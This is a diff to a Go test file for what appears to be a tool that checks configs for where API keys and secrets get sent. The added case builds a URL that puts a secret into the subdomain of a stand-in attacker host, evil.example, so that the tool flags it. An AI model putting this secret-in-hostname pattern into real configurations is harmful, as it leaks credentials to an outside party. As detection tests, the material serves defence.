@@ -297,6 +297,10 @@ func TestWants(t *testing.T) {
 			reads("SERVER"), of("http://said.example:8080", sends(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, false)),
 			of("http://said.example:8080", gives(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, "OPENAI_API_KEY", false)),
 		}},
+		"a host of a secret": {config: `url = "https://${secret("OTHER_KEY")}.evil.example"`, want: []Want{
+			of("another-key.evil.example", sends(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, false)),
+			of("another-key.evil.example", gives(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, "OTHER_KEY", false)),
+		}},
 		"OpenAI's key, in clear":             {config: `url = "http://api.openai.com/v1"` + "\n" + ownKey, want: []Want{sends("http://api.openai.com"+clear, false), gives("http://api.openai.com", "OPENAI_API_KEY", false)}},
 		"OpenAI's key, another port":         {config: `url = "https://api.openai.com:8443/v1"` + "\n" + ownKey, want: []Want{sends("api.openai.com:8443", false), gives("api.openai.com:8443", "OPENAI_API_KEY", false)}},
 		"OpenAI's host, written otherwise":   {config: `url = "https://API.OpenAI.com:443/v1"` + "\n" + ownKey, want: own},
